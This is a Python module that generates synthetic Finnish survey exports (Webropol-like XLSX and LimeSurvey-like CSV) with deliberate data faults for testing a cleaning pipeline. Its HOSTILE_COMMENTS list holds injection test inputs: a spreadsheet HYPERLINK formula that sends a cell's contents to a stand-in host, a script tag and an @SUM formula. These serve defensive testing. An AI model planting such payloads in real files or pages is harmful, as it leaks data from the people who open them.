"""Synthetic survey exports in two real-world shapes, with the faults real exports have.

* A Webropol-like XLSX (universities and research institutes): Finnish question texts as
  headers, Finnish answer labels with some Swedish and English ones, one column per option of
  a multiple choice, a "Muu, mikä?" text column, Finnish dates.
* A LimeSurvey-like CSV (universities of applied sciences): ``;``-separated, cp1252, question
  codes such as ``THR[SQ002]`` as headers and answer codes as values.

Faults built in on purpose, each in a known number: exact duplicate rows, a respondent id
submitted twice, a double submission under a new id, test rows, incomplete responses, a
response before the fieldwork window, unknown labels and codes, stray whitespace, speeders
and straight-liners, and free text that tries spreadsheet formulas and HTML.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from analysis.demo.entities import COUNTRIES, ORGANISATIONS, Organisation, PartnerCountry
from analysis.demo.writers import write_csv, write_xlsx, write_yaml
from analysis.survey.codebook import DONT_KNOW, Codebook

SURVEY_MAPPING_NOTE = "Maps this export's columns and codes onto config/codebook.yaml."
FIELDWORK_START = datetime(2024, 9, 2, 8, 0)
FIELDWORK_END = datetime(2024, 10, 4, 16, 0)
WEBROPOL_FILE = "webropol_vastaukset_2024.xlsx"
LIMESURVEY_FILE = "limesurvey_results_2024.csv"

# Invented mean agreement per organisation type; the demo has a story to find, nothing more.
THREAT_MEANS = {
    "university": [3.9, 3.5, 3.4, 4.1, 3.6, 3.3, 3.0, 3.1, 3.7, 2.4],
    "uas": [3.0, 2.6, 2.7, 3.6, 3.0, 2.8, 2.6, 2.7, 3.3, 3.4],
    "research_institute": [4.1, 4.0, 3.9, 4.3, 3.5, 2.9, 2.7, 3.0, 3.6, 2.2],
}
OPPORTUNITY_MEANS = {
    "university": [4.6, 4.5, 4.3, 4.4, 3.9, 3.7, 4.2, 4.1],
    "uas": [3.9, 4.0, 4.2, 4.1, 4.4, 4.3, 3.9, 3.7],
    "research_institute": [4.5, 4.6, 4.0, 4.3, 3.2, 4.1, 4.3, 3.8],
}
PREPAREDNESS_YES = {"university": 0.55, "uas": 0.3, "research_institute": 0.6}
ROLES = {
    "leadership": 2,
    "research": 4,
    "international_office": 3,
    "research_services": 2,
    "other": 1,
}
FIELDS = {
    "university": {
        "natural_sciences": 3,
        "engineering_technology": 2,
        "medical_health": 2,
        "agricultural_veterinary": 1,
        "social_sciences": 3,
        "humanities_arts": 2,
    },
    "uas": {
        "natural_sciences": 1,
        "engineering_technology": 4,
        "medical_health": 3,
        "agricultural_veterinary": 1,
        "social_sciences": 3,
        "humanities_arts": 1,
    },
    "research_institute": {
        "natural_sciences": 3,
        "engineering_technology": 3,
        "medical_health": 1,
        "agricultural_veterinary": 2,
        "social_sciences": 1,
        "humanities_arts": 0,
    },
}
CONCERN_OPTIONS = ["CN", "RU", "IR", "BY", "US", "IN", "HK", "SA", "TR"]
OPPORTUNITY_OPTIONS = ["SE", "DE", "US", "GB", "NO", "JP", "IN", "CN", "KR", "EE"]

COMMENTS = {
    "training": {
        "fi": [
            "Tarvitsemme lisää koulutusta tutkijoille tutkimusturvallisuudesta.",
            "Henkilöstön koulutus vientivalvonnasta on vielä kesken.",
        ],
        "sv": ["Vi behöver mer utbildning om forskningssäkerhet för forskarna."],
        "en": ["Staff need practical training on research security and export control."],
    },
    "guidance": {
        "fi": [
            "Kaipaamme selkeää kansallista ohjeistusta ja viranomaisten tukea.",
            "Viranomaisilta toivotaan maakohtaista tilannekuvaa.",
        ],
        "sv": ["Tydligare nationella riktlinjer och stöd från myndigheterna behövs."],
        "en": ["Clear national guidance and a contact point at the authorities would help."],
    },
    "resources": {
        "fi": [
            "Pienessä organisaatiossa ei ole resursseja taustaselvityksiin.",
            "Resurssit riittävät vain tärkeimpien kumppanien arviointiin.",
        ],
        "sv": ["Små organisationer saknar resurser för granskning av partner."],
        "en": ["We lack the resources for due diligence on every partner."],
    },
    "sanctions": {
        "fi": ["Pakotelistojen tulkinta on vaikeaa ja hidastaa hankkeita."],
        "sv": ["Sanktionslistorna är svåra att tolka."],
        "en": ["Interpreting sanctions lists is difficult and slows projects down."],
    },
    "openness": {
        "fi": [
            "Avoimuus ja akateeminen vapaus eivät saa kärsiä turvallisuustoimista.",
            "Kansainvälinen yhteistyö on meille elintärkeää, hyödyt ovat suuret.",
        ],
        "sv": ["Öppenhet och akademisk frihet får inte lida av säkerhetsåtgärderna."],
        "en": [
            "Openness and academic freedom must not suffer from security measures.",
            "International cooperation is vital for us; the benefits are large.",
        ],
    },
}
HOSTILE_COMMENTS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Lisätietoa")',
    "<script>alert('x')</script> Hyvä kysely!",
    "@SUM(1+1) testing formula",
]


@dataclass
class Respondent:
    org: Organisation
    lang: str
    role: str
    field: str
    answers: dict[str, Any]  # item id -> code, DONT_KNOW or None (no answer)
    concern: list[PartnerCountry]
    concern_other: list[str]
    opportunity: list[PartnerCountry]
    opportunity_other: list[str]
    comment: str | None
    submitted: datetime
    duration: int
    complete: bool = True
    extra: dict[str, Any] = field(default_factory=dict)


def _weighted(rng: random.Random, weights: dict[str, float]) -> str:
    names = list(weights)
    return rng.choices(names, weights=[weights[n] for n in names])[0]


def _likert(rng: random.Random, mean: float) -> Any:
    roll = rng.random()
    if roll < 0.04:
        return DONT_KNOW
    if roll < 0.06:
        return None
    return min(5, max(1, round(rng.gauss(mean, 0.95))))


def _country_name(rng: random.Random, country: PartnerCountry, lang: str) -> str:
    if country.variants and rng.random() < 0.25:
        return rng.choice(country.variants)
    return getattr(country, lang)


def _pick_countries(rng: random.Random, attribute: str, most: int) -> list[PartnerCountry]:
    weighted = [c for c in COUNTRIES if getattr(c, attribute) > 0]
    count = rng.choice(range(most + 1))
    chosen: list[PartnerCountry] = []
    while len(chosen) < count:
        pick = rng.choices(weighted, weights=[getattr(c, attribute) for c in weighted])[0]
        if pick not in chosen:
            chosen.append(pick)
    return chosen


def make_respondent(
    rng: random.Random, codebook: Codebook, org: Organisation, languages: dict[str, float]
) -> Respondent:
    lang = _weighted(rng, languages)
    role = _weighted(rng, ROLES)
    field_code = _weighted(rng, FIELDS[org.org_type])
    answers: dict[str, Any] = {
        "organisation": org.name,
        "org_type": org.org_type,
        "role": role,
        "field": field_code,
    }
    shift = 0.3 if role == "research_services" else 0.0
    for item, mean in zip(codebook.block_items("threats"), THREAT_MEANS[org.org_type], strict=True):
        answers[item.id] = _likert(rng, mean + shift)
    opportunity_items = codebook.block_items("opportunities")
    for item, mean in zip(opportunity_items, OPPORTUNITY_MEANS[org.org_type], strict=True):
        answers[item.id] = _likert(rng, mean)
    ready = PREPAREDNESS_YES[org.org_type]
    for index, item in enumerate(codebook.block_items("preparedness")):
        # Later items (recruitment, mobility, premises) are newer tasks and less often in place.
        p_yes = max(0.1, ready - 0.03 * index)
        roll = rng.random()
        answers[item.id] = (
            DONT_KNOW
            if roll < 0.05
            else "yes"
            if roll < 0.05 + p_yes
            else "partly"
            if roll < 0.35 + p_yes
            else "no"
        )
    concern = _pick_countries(rng, "concern_weight", 3)
    opportunity = _pick_countries(rng, "opportunity_weight", 3)
    comment = None
    if rng.random() < 0.4:
        theme = rng.choice(sorted(COMMENTS))
        texts = COMMENTS[theme].get(lang) or COMMENTS[theme]["en"]
        comment = rng.choice(texts)
    submitted = FIELDWORK_START + timedelta(
        seconds=rng.randrange(int((FIELDWORK_END - FIELDWORK_START).total_seconds()))
    )
    padded = {item_id for item_id in answers if rng.random() < 0.05}
    return Respondent(
        extra={"org_label": rng.choice(org.aliases), "padded": padded},
        org=org,
        lang=lang,
        role=role,
        field=field_code,
        answers=answers,
        concern=[c for c in concern if c.iso2 in CONCERN_OPTIONS],
        concern_other=[
            _country_name(rng, c, lang) for c in concern if c.iso2 not in CONCERN_OPTIONS
        ],
        opportunity=[c for c in opportunity if c.iso2 in OPPORTUNITY_OPTIONS],
        opportunity_other=[
            _country_name(rng, c, lang) for c in opportunity if c.iso2 not in OPPORTUNITY_OPTIONS
        ],
        comment=comment,
        submitted=submitted.replace(second=0),
        duration=int(rng.lognormvariate(6.3, 0.4)),  # about nine minutes
    )


def _make_straight_liner(codebook: Codebook, respondent: Respondent, value: int) -> None:
    for block in ("threats", "opportunities"):
        for item in codebook.block_items(block):
            respondent.answers[item.id] = value


# ---------------------------------------------------------------------------------------
# Webropol-like XLSX


def _webropol_headers(codebook: Codebook) -> tuple[list[str], dict[str, Any]]:
    concern_q = codebook.items["concern_countries"].text["fi"]
    opportunity_q = codebook.items["opportunity_countries"].text["fi"]
    finnish = {c.iso2: c.fi for c in COUNTRIES}
    headers = ["Vastaajan ID", "Vastausaika", "Vastaamiseen käytetty aika (s)", "Tila", "Kieli"]
    items = {}
    for item_id in codebook.items:
        if codebook.items[item_id].kind == "countries":
            continue
        header = codebook.question_text(item_id, "fi")
        headers.append(header)
        items[item_id] = header
    concern_cols = {f"{concern_q} - {finnish[c]}": finnish[c] for c in CONCERN_OPTIONS}
    opportunity_cols = {f"{opportunity_q} - {finnish[c]}": finnish[c] for c in OPPORTUNITY_OPTIONS}
    concern_other = f"{concern_q} - Muu, mikä?"
    opportunity_other = f"{opportunity_q} - Muu, mikä?"
    comment_header = items.pop("comment")
    headers.remove(comment_header)
    headers += [*concern_cols, concern_other, *opportunity_cols, opportunity_other, comment_header]
    mapping = {
        "export": WEBROPOL_FILE,
        "tool": "webropol",
        "header_rows": 1,
        "respondent_id": "Vastaajan ID",
        "submitted_at": {"column": "Vastausaika", "format": "%d.%m.%Y %H:%M"},
        "duration_seconds": "Vastaamiseen käytetty aika (s)",
        "status": {"column": "Tila", "complete": ["Valmis"]},
        "language": {
            "column": "Kieli",
            "values": {"suomi": "fi", "svenska": "sv", "English": "en"},
        },
        "items": {**items, "comment": comment_header},
        "countries": {
            "concern_countries": {"options": concern_cols, "other": concern_other},
            "opportunity_countries": {"options": opportunity_cols, "other": opportunity_other},
        },
    }
    return headers, mapping


def _label(codebook: Codebook, item_id: str, value: Any, lang: str) -> Any:
    if value is None:
        return None
    item = codebook.items[item_id]
    if item.scale is None:
        return value
    return item.scale.label(value, lang)


def webropol_rows(
    rng: random.Random, codebook: Codebook, respondents: list[Respondent]
) -> tuple[list[list[Any]], dict[str, Any]]:
    headers, mapping = _webropol_headers(codebook)
    language_names = {"fi": "suomi", "sv": "svenska", "en": "English"}
    rows = []
    for number, person in enumerate(respondents, start=1):
        row: list[Any] = [
            person.extra.get("id", 100000 + number * 7),
            f"{person.submitted.day}.{person.submitted.month}.{person.submitted.year} "
            f"{person.submitted:%H:%M}",
            person.duration,
            "Valmis" if person.complete else "Keskeneräinen",
            language_names[person.lang],
        ]
        for item_id in mapping["items"]:
            if item_id == "comment":
                continue
            if not person.complete and codebook.items[item_id].block in ("preparedness",):
                row.append(None)
                continue
            # The export shows labels in the language the respondent answered in.
            value = _label(codebook, item_id, person.answers.get(item_id), person.lang)
            if item_id == "organisation":
                value = person.extra["org_label"]
            if isinstance(value, str) and item_id in person.extra["padded"]:
                value = f"  {value} "
            row.append(person.extra.get("override", {}).get(item_id, value))
        concern_codes = {c.iso2 for c in person.concern}
        row += [1 if code in concern_codes else None for code in CONCERN_OPTIONS]
        row.append(", ".join(person.concern_other) or None)
        opportunity_codes = {c.iso2 for c in person.opportunity}
        row += [1 if code in opportunity_codes else None for code in OPPORTUNITY_OPTIONS]
        row.append(", ".join(person.opportunity_other) or None)
        row.append(person.comment)
        rows.append(row)
    return [headers, *rows], mapping


# ---------------------------------------------------------------------------------------
# LimeSurvey-like CSV

ORGTYPE_CODES = {"university": "A1", "uas": "A2", "research_institute": "A3", "other": "A4"}


def _limesurvey_layout(codebook: Codebook) -> tuple[list[str], dict[str, Any]]:
    role_codes = {code: f"A{i}" for i, code in enumerate(codebook.scales["role"].codes, 1)}
    field_codes = {code: f"A{i}" for i, code in enumerate(codebook.scales["field"].codes, 1)}
    items: dict[str, str] = {
        "organisation": "ORG",
        "org_type": "ORGTYPE",
        "role": "ROLE",
        "field": "FIELD",
    }
    for prefix, block in (("THR", "threats"), ("OPP", "opportunities"), ("PREP", "preparedness")):
        for index, item in enumerate(codebook.block_items(block), start=1):
            items[item.id] = f"{prefix}[SQ{index:03d}]"
    english = {c.iso2: c.en for c in COUNTRIES}
    concern = {f"CONC[SQ{i:03d}]": english[c] for i, c in enumerate(CONCERN_OPTIONS, 1)}
    opportunity = {f"OPPC[SQ{i:03d}]": english[c] for i, c in enumerate(OPPORTUNITY_OPTIONS, 1)}
    headers = [
        "id",
        "submitdate",
        "lastpage",
        "startlanguage",
        "seed",
        "startdate",
        "datestamp",
        *items.values(),
        *concern,
        "CONC[other]",
        *opportunity,
        "OPPC[other]",
        "COMMENT",
        "interviewtime",
    ]
    mapping = {
        "export": LIMESURVEY_FILE,
        "tool": "limesurvey",
        "header_rows": 1,
        "respondent_id": "id",
        "submitted_at": {"column": "submitdate", "format": "%Y-%m-%d %H:%M:%S"},
        "duration_seconds": "interviewtime",
        "status": {"column": "submitdate", "complete_when": "not_empty"},
        "language": {"column": "startlanguage"},
        "items": {**items, "comment": "COMMENT"},
        "values": {
            "org_type": {v: k for k, v in ORGTYPE_CODES.items()},
            "role": {v: k for k, v in role_codes.items()},
            "field": {v: k for k, v in field_codes.items()},
        },
        "scale_values": {
            "agree5": {"99": DONT_KNOW},
            "readiness": {"Y": "yes", "P": "partly", "N": "no", "DK": DONT_KNOW},
        },
        "countries": {
            "concern_countries": {"options": concern, "other": "CONC[other]", "checked": "Y"},
            "opportunity_countries": {
                "options": opportunity,
                "other": "OPPC[other]",
                "checked": "Y",
            },
        },
    }
    return headers, mapping


def limesurvey_rows(
    rng: random.Random, codebook: Codebook, respondents: list[Respondent]
) -> tuple[list[str], list[list[Any]], dict[str, Any]]:
    headers, mapping = _limesurvey_layout(codebook)
    readiness = {"yes": "Y", "partly": "P", "no": "N", DONT_KNOW: "DK"}
    role_codes = {v: k for k, v in mapping["values"]["role"].items()}
    field_codes = {v: k for k, v in mapping["values"]["field"].items()}
    rows = []
    for number, person in enumerate(respondents, start=1):
        started = person.submitted - timedelta(seconds=person.duration)
        row: list[Any] = [
            person.extra.get("id", number),
            person.submitted.strftime("%Y-%m-%d %H:%M:%S") if person.complete else None,
            5 if person.complete else rng.choice([1, 2, 3]),
            person.lang,
            rng.randrange(10**8, 10**9),
            started.strftime("%Y-%m-%d %H:%M:%S"),
            person.submitted.strftime("%Y-%m-%d %H:%M:%S"),
        ]
        for item_id in mapping["items"]:
            if item_id == "comment":
                continue
            value = person.answers.get(item_id)
            item = codebook.items[item_id]
            if item_id == "organisation":
                value = person.extra["org_label"]
            elif item_id == "org_type":
                value = ORGTYPE_CODES[value]
            elif item_id == "role":
                value = role_codes[value]
            elif item_id == "field":
                value = field_codes[value]
            elif item.scale is not None and item.scale.name == "agree5":
                value = "99" if value == DONT_KNOW else value
            elif item.scale is not None and item.scale.name == "readiness":
                value = readiness.get(value)
            row.append(person.extra.get("override", {}).get(item_id, value))
        concern_codes = {c.iso2 for c in person.concern}
        row += ["Y" if code in concern_codes else None for code in CONCERN_OPTIONS]
        row.append(", ".join(person.concern_other) or None)
        opportunity_codes = {c.iso2 for c in person.opportunity}
        row += ["Y" if code in opportunity_codes else None for code in OPPORTUNITY_OPTIONS]
        row.append("; ".join(person.opportunity_other) or None)
        row.append(person.comment)
        row.append(f"{person.duration + rng.random():.2f}")
        rows.append(row)
    return headers, rows, mapping


# ---------------------------------------------------------------------------------------


def _organisation_aliases() -> list[list[str]]:
    rows = []
    for org in ORGANISATIONS:
        for alias in dict.fromkeys((org.name, *org.aliases)):
            rows.append([alias, org.key, org.org_type])
    return rows


def write_survey_demo(target: Path, codebook: Codebook, rng: random.Random) -> list[Path]:
    """Write both exports, their mapping files and the organisation alias table."""
    webropol_people: list[Respondent] = []
    limesurvey_people: list[Respondent] = []
    for org in ORGANISATIONS:
        languages = {"fi": 0.8, "sv": 0.12, "en": 0.08}
        people = limesurvey_people if org.org_type == "uas" else webropol_people
        for _ in range(org.respondents):
            people.append(make_respondent(rng, codebook, org, languages))
    rng.shuffle(webropol_people)
    rng.shuffle(limesurvey_people)
    for people in (webropol_people, limesurvey_people):
        people.sort(key=lambda p: p.submitted)

    # Faults in the Webropol export.
    web = webropol_people
    for person in web[5:8]:
        web.append(person)  # exact duplicate rows (same id assigned below)
    for number, person in enumerate(web[:-3], start=1):
        person.extra.setdefault("id", 100000 + number * 7)
    for label in ("TESTI", "Testivastaus"):
        test = make_respondent(rng, codebook, ORGANISATIONS[0], {"fi": 1})
        test.extra.update(org_label=label, id=99990 + len(label))
        test.comment = "testi"
        web.append(test)
    for person in rng.sample(web[10:-5], 6):
        person.complete = False
    web[20].extra["override"] = {"threat_dual_use": "Erittäin merkittävä"}
    web[31].extra["override"] = {"opp_talent": "6"}
    pilot = make_respondent(rng, codebook, ORGANISATIONS[2], {"fi": 1})
    pilot.submitted = datetime(2024, 8, 28, 13, 5)
    pilot.extra["id"] = 100001
    web.insert(0, pilot)
    for person in rng.sample(web[40:], 2):
        person.duration = rng.randrange(45, 110)  # speeders
    _make_straight_liner(codebook, web[60], 3)
    web[70].comment = HOSTILE_COMMENTS[0]
    web[71].comment = HOSTILE_COMMENTS[1]

    # Faults in the LimeSurvey export.
    lime = limesurvey_people
    resubmitted = make_respondent(rng, codebook, lime[12].org, {"fi": 1})
    resubmitted.extra["id"] = 13
    resubmitted.submitted = lime[12].submitted + timedelta(days=1)
    lime.append(resubmitted)
    double = Respondent(
        **{**lime[30].__dict__, "extra": {k: v for k, v in lime[30].extra.items() if k != "id"}}
    )
    lime.append(double)  # identical answers and timestamp under a new id
    test = make_respondent(rng, codebook, lime[0].org, {"en": 1})
    test.extra["org_label"] = "test"
    lime.append(test)
    for person in rng.sample(lime[:-3], 4):
        person.complete = False
    lime[40].extra["override"] = {"threat_espionage_cyber": "7"}
    for person in rng.sample(lime[:-3], 3):
        person.duration = rng.randrange(40, 100)
    for person in (lime[50], lime[51]):
        _make_straight_liner(codebook, person, 4)
    lime[60].comment = HOSTILE_COMMENTS[2]

    survey_dir = target / "survey"
    sheet, web_mapping = webropol_rows(rng, codebook, web)
    headers, rows, lime_mapping = limesurvey_rows(rng, codebook, lime)
    written = [
        write_xlsx(survey_dir / WEBROPOL_FILE, {"Vastaukset": sheet}),
        write_yaml(
            survey_dir / f"{Path(WEBROPOL_FILE).stem}.mapping.yaml",
            web_mapping,
            SURVEY_MAPPING_NOTE,
        ),
        write_csv(
            survey_dir / LIMESURVEY_FILE, headers, rows, delimiter=";", encoding="cp1252", quoting=1
        ),
        write_yaml(
            survey_dir / f"{Path(LIMESURVEY_FILE).stem}.mapping.yaml",
            lime_mapping,
            SURVEY_MAPPING_NOTE,
        ),
        write_csv(
            survey_dir / "organisation_aliases.csv",
            ["alias", "organisation_key", "org_type"],
            _organisation_aliases(),
        ),
    ]
    return written
